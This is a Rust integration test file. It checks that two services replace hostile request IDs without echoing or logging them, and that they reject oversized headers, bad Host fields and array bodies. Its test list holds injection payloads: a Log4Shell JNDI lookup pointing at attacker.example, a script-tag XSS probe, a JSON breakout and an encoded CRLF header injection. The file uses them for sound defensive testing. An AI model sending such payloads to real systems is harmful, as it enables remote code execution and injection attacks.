//! The edge of both services over real sockets: hostile request IDs are replaced at the agent
//! (in its header, its envelopes and its logs), request heads over the limits get their
//! envelopes, an HTTP/1.1 request without `Host` (or with two, or an invalid one) and an array
//! body are rejected.

#![allow(clippy::unwrap_used)]

mod common;

use std::net::SocketAddr;

use common::{
    Client, Reply, assert_envelope, bearer, chat_body, is_valid_request_id, mentions,
    parse_raw_response, start_agent, start_system, token, violated_fields,
};
use stanchion_test_support::hostile::HEADER_AND_LOG_INJECTION;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

/// The values the issue's fuzzing run saw echoed, then the shared hostile list.
fn hostile_ids() -> Vec<(&'static str, &'static str)> {
    let mut ids = vec![
        ("json breakout", r#""},{""#),
        ("markup", "<script>alert(1)</script>"),
        ("log4shell lookup", "${jndi:ldap://attacker.example/a}"),
        ("encoded crlf", "abc%0d%0aX-Injected:%20yes"),
    ];
    ids.extend(HEADER_AND_LOG_INJECTION.iter().map(|h| (h.name, h.value)));
    ids
}

#[tokio::test]
async fn hostile_request_ids_are_replaced_at_the_agent() {
    let _guard = common::init();
    let agent = start_agent();
    let client = Client::new();
    let chat_url = agent.url("/v1/chat");
    let mut answered_ids = Vec::new();
    for (name, hostile) in hostile_ids() {
        let headers = [
            ("content-type", "application/json"),
            ("x-request-id", hostile),
        ];
        // An answer: the body's requestId and the header name one fresh, valid ID.
        let reply = client
            .post(&chat_url, &headers, chat_body("easy run?"))
            .await;
        assert_eq!(reply.status, 200, "{name}: {}", reply.text());
        let id = reply.request_id();
        assert!(is_valid_request_id(&id), "{name}: {id:?}");
        assert_ne!(id, hostile, "{name} was kept");
        assert_eq!(reply.json()["requestId"], id.as_str(), "{name}");
        assert_not_echoed(&reply, name, hostile);
        answered_ids.push(id);

        // An envelope: its requestId is the replacement too.
        let reply = client.post(&chat_url, &headers, chat_body("   ")).await;
        let body = assert_envelope(&reply, 400, Some("VALIDATION_ERROR"));
        assert_ne!(body["error"]["requestId"], hostile, "{name}");
        assert_not_echoed(&reply, name, hostile);
    }
    // Every answer was logged under its replacement ID; no hostile value reached a line.
    for id in &answered_ids {
        agent
            .wait_for_line("chat answered under the replacement ID", |line| {
                line["message"] == "chat answered" && line["requestId"] == id.as_str()
            })
            .await;
    }
    let logs = agent.logs.contents();
    for (name, hostile) in hostile_ids() {
        if hostile.len() > 2 {
            assert!(!mentions(&logs, hostile), "{name} reached the agent's log");
        }
    }
}

#[tokio::test]
async fn a_valid_request_id_is_still_kept_by_the_agent() {
    let _guard = common::init();
    let agent = start_agent();
    let id = "backend-7f3c2a1e-0b9d-4c55-8e21-5a6f9d0c4b77";
    let reply = Client::new()
        .post(
            &agent.url("/v1/chat"),
            &[("content-type", "application/json"), ("x-request-id", id)],
            chat_body("easy run?"),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(reply.request_id(), id);
    assert_eq!(reply.json()["requestId"], id);
}

fn assert_not_echoed(reply: &Reply, name: &str, hostile: &str) {
    if hostile.len() > 2 {
        assert!(
            !mentions(&reply.everything(), hostile),
            "{name} echoed: {}",
            reply.everything()
        );
    }
}

/// Writes `request` on a fresh connection and reads until the server closes it.
async fn raw_exchange(addr: SocketAddr, request: &[u8]) -> Reply {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut raw = Vec::new();
    tokio::time::timeout(common::EXCHANGE_DEADLINE, stream.read_to_end(&mut raw))
        .await
        .expect("the server answers and closes")
        .unwrap();
    parse_raw_response(&raw)
}

fn get_livez(path_suffix: &str, extra_headers: &str) -> Vec<u8> {
    format!(
        "GET /livez{path_suffix} HTTP/1.1\r\nHost: backend\r\nConnection: close\r\n{extra_headers}\r\n"
    )
    .into_bytes()
}

#[tokio::test]
async fn request_heads_over_the_limits_get_their_envelopes_from_both_services() {
    let _guard = common::init();
    let system = start_system();
    for server in [&system.backend, &system.agent] {
        let many: String = (0..150).map(|i| format!("x-extra-{i}: 1\r\n")).collect();
        let reply = raw_exchange(server.addr, &get_livez("", &many)).await;
        assert_envelope(&reply, 431, Some("HEADERS_TOO_LARGE"));

        let large = format!("cookie: {}\r\n", "c".repeat(20 * 1024));
        let reply = raw_exchange(server.addr, &get_livez("", &large)).await;
        assert_envelope(&reply, 431, Some("HEADERS_TOO_LARGE"));

        let long = format!("?q={}", "u".repeat(12 * 1024));
        let reply = raw_exchange(server.addr, &get_livez(&long, "")).await;
        assert_envelope(&reply, 414, Some("URI_TOO_LONG"));

        let reply = raw_exchange(
            server.addr,
            b"GET /livez HTTP/1.1\r\nConnection: close\r\n\r\n",
        )
        .await;
        assert_envelope(&reply, 400, Some("BAD_REQUEST"));

        // Two Host fields, or one that is not host[:port] (RFC 9112 §3.2).
        for bad_host in ["Host: a\r\nHost: b\r\n", "Host: user@backend\r\n"] {
            let request = format!("GET /livez HTTP/1.1\r\n{bad_host}Connection: close\r\n\r\n");
            let reply = raw_exchange(server.addr, request.as_bytes()).await;
            assert_envelope(&reply, 400, Some("BAD_REQUEST"));
        }
    }
    // Each was logged with its code by the access log.
    system
        .backend
        .wait_for_line("an access line for URI_TOO_LONG", |line| {
            line["target"] == "stanchion::access" && line["errorCode"] == "URI_TOO_LONG"
        })
        .await;
}

#[tokio::test]
async fn an_array_body_where_an_object_is_expected_is_a_validation_error() {
    let _guard = common::init();
    let system = start_system();
    let client = Client::new();
    let (name, value) = bearer(&token("ana"));
    let reply = client
        .post(
            &system.backend.url("/api/v1/chat"),
            &[(name, &value), ("content-type", "application/json")],
            r#"["How should I train?"]"#,
        )
        .await;
    let body = assert_envelope(&reply, 400, Some("VALIDATION_ERROR"));
    assert_eq!(violated_fields(&body), ["body"]);
    let reply = client
        .post(
            &system.agent.url("/v1/chat"),
            &[("content-type", "application/json")],
            r#"["text"]"#,
        )
        .await;
    let body = assert_envelope(&reply, 400, Some("VALIDATION_ERROR"));
    assert_eq!(violated_fields(&body), ["body"]);
}
